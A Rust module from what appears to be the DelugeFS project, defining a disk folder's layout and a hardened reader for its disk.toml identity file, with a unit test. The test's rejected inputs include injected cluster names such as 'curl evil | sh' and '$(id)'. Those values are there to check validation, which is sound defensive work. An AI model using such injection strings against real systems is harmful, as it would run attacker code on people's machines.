//! The layout of a disk's folder (ROOT) and its `disk.toml`. Only names and the identity file are here; the worker
//! owns everything in the folder, others may read `disk.toml`.

use std::io::Read;
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::escape::quoted;
use crate::ids::{ClusterId, DiskId};

/// What this folder is, for a person.
pub const README: &str = "README";
/// Identity and format version.
pub const DISK_TOML: &str = "disk.toml";
/// Ed25519 key of the disk, PKCS#8, 0600.
pub const NODE_KEY: &str = "node.key";
/// Bare git repository: the whole namespace.
pub const CATALOG: &str = "catalog.git";
/// One file per content, `ab/ab12…`, named by SHA-256.
pub const DATA: &str = "data";
/// Contents being fetched.
pub const INCOMING: &str = "incoming";
/// Files being written, named by inode number (16 hex digits).
pub const STAGING: &str = "staging";
/// Contents nobody refers to any more, kept for a while.
pub const TRASH: &str = "trash";
/// The operation log.
pub const JOURNAL: &str = "journal";
/// Held (flock) by the worker.
pub const LOCK: &str = "lock";

/// Longest `disk.toml` that is read.
const DISK_TOML_MAX_BYTES: u64 = 64 << 10;

/// Format of the folder as a whole. A worker refuses a newer one and touches nothing.
pub const DISK_FORMAT: u32 = 1;

/// Contents of `disk.toml`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DiskToml {
    /// [`DISK_FORMAT`] of the version that made or last converted it.
    pub format: u32,
    /// Name of the cluster, for people and for checking what the user typed.
    pub cluster: String,
    /// 32 hex digits.
    pub cluster_id: String,
    /// 64 hex digits.
    pub disk_id: String,
}

/// Why a folder's `disk.toml` cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum DiskTomlError {
    /// There is none: not a disk folder (or an unfinished one).
    #[error("{0} is not a DelugeFS disk folder (it has no disk.toml)")]
    Absent(String),
    /// Reading failed.
    #[error("cannot read {0}/disk.toml")]
    Io(String, #[source] std::io::Error),
    /// Made by a newer version.
    #[error(
        "{path} has disk format {found}, this version of delugefs knows up to {DISK_FORMAT}: upgrade delugefs; nothing was touched"
    )]
    Newer {
        /// The folder.
        path: String,
        /// Its format.
        found: u32,
    },
    /// Not what it should be.
    #[error("{0}/disk.toml is damaged: {1}")]
    Damaged(String, String),
}

impl DiskToml {
    /// Read and check the identity of a disk folder.
    pub fn read(root: &Path) -> Result<Self, DiskTomlError> {
        let path = root.display().to_string();
        // Whoever gave us the disk may have put anything there. To open a pipe would wait for who writes to it, for ever.
        let flags = nix::libc::O_NOFOLLOW | nix::libc::O_NONBLOCK;
        let open = std::fs::OpenOptions::new().read(true).custom_flags(flags).open(root.join(DISK_TOML));
        let mut text = String::new();
        let read = open.and_then(|file| match file.metadata()?.is_file() {
            true => file.take(DISK_TOML_MAX_BYTES + 1).read_to_string(&mut text),
            false => Err(std::io::Error::other("it is no regular file")),
        });
        match read {
            Ok(len) if len as u64 > DISK_TOML_MAX_BYTES => Err(DiskTomlError::Damaged(path, "it is too long".into())),
            Ok(_) => Self::parse(&text, path),
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => Err(DiskTomlError::Absent(path)),
            Err(error) => Err(DiskTomlError::Io(path, error)),
        }
    }

    /// Check the text of the `disk.toml` in the folder `path`.
    pub fn parse(text: &str, path: String) -> Result<Self, DiskTomlError> {
        #[derive(Deserialize)]
        struct FormatOnly {
            format: u32,
        }
        // The format first: a newer file may have fields this version does not know.
        let damaged = |error: toml::de::Error| DiskTomlError::Damaged(path.clone(), error.message().to_string());
        let format = toml::from_str::<FormatOnly>(text).map_err(damaged)?.format;
        if format > DISK_FORMAT {
            return Err(DiskTomlError::Newer { path, found: format });
        }
        let this: Self = toml::from_str(text).map_err(damaged)?;
        if this.cluster_id().is_none() || this.disk_id().is_none() {
            return Err(DiskTomlError::Damaged(path, "an id is not hexadecimal".into()));
        }
        // Whoever gave us the disk wrote it, and it is part of commands that we tell people to type.
        if !is_cluster_name(&this.cluster) {
            return Err(DiskTomlError::Damaged(path, "what it calls its cluster is no name of one".into()));
        }
        Ok(this)
    }

    /// The cluster id.
    pub fn cluster_id(&self) -> Option<ClusterId> {
        ClusterId::from_hex(&self.cluster_id)
    }

    /// The disk id.
    pub fn disk_id(&self) -> Option<DiskId> {
        DiskId::from_hex(&self.disk_id)
    }
}

/// What to do with a disk of another cluster than the host's, as a hint.
pub fn own_supervisor(cluster: &str, root: &Path) -> String {
    let root = quoted(&root.display().to_string());
    format!("give it a supervisor of its own: `delugefs --run-dir DIR run {cluster} {root} --state-dir DIR`")
}

/// First 8 hex digits of a disk id: what people see, and the stem of its sockets' names.
pub fn short_id(disk_id: &str) -> &str {
    disk_id.get(..8).unwrap_or(disk_id)
}

/// Whether this is a fit name for a cluster: 1 to 64 letters, digits, `-`, `_`, `.`, not starting with `-` or `.`.
pub fn is_cluster_name(name: &str) -> bool {
    (1..=64).contains(&name.len())
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        && !name.starts_with(['-', '.'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_its_own_and_refuses_the_rest() {
        let dir = tempfile::tempdir().unwrap();
        let read = || DiskToml::read(dir.path());
        let write = |text: &str| std::fs::write(dir.path().join(DISK_TOML), text).unwrap();
        assert!(matches!(read(), Err(DiskTomlError::Absent(_))));
        std::os::unix::fs::symlink("/dev/zero", dir.path().join(DISK_TOML)).unwrap();
        assert!(matches!(read(), Err(DiskTomlError::Io(..))), "no link is followed");
        std::fs::remove_file(dir.path().join(DISK_TOML)).unwrap();
        nix::unistd::mkfifo(&dir.path().join(DISK_TOML), nix::sys::stat::Mode::S_IRWXU).unwrap();
        let (root, read_it) = (dir.path().to_owned(), std::sync::mpsc::channel());
        std::thread::spawn(move || read_it.0.send(matches!(DiskToml::read(&root), Err(DiskTomlError::Io(..)))));
        assert_eq!(read_it.1.recv_timeout(std::time::Duration::from_secs(30)), Ok(true), "a pipe is waited for");
        std::fs::remove_file(dir.path().join(DISK_TOML)).unwrap();
        std::fs::File::create(dir.path().join(DISK_TOML)).unwrap().set_len(1 << 40).unwrap();
        assert!(matches!(read(), Err(DiskTomlError::Damaged(..))), "nor without a bound");
        let good = DiskToml {
            format: DISK_FORMAT,
            cluster: "home".into(),
            cluster_id: "00".repeat(16),
            disk_id: "11".repeat(32),
        };
        write(&toml::to_string(&good).unwrap());
        assert_eq!(read().unwrap(), good);
        write("format = 2\nsomething_new = true\n");
        assert!(matches!(read(), Err(DiskTomlError::Newer { found: 2, .. })));
        let good = toml::to_string(&good).unwrap();
        let named = |name: &str| good.replace("home", name);
        for bad in [
            "",
            "format = 1",
            "format = 1\ncluster = 1",
            "\u{1}",
            &good.replace("11", "zz"),
            &named("home2; curl evil | sh #"),
            &named("$(id)"),
            &named("--help"),
            &named(""),
        ] {
            write(bad);
            assert!(matches!(read(), Err(DiskTomlError::Damaged(..))), "{bad:?}");
        }
        assert!(is_cluster_name("home-1") && !is_cluster_name("-x") && !is_cluster_name("a/b") && !is_cluster_name(""));
    }
}
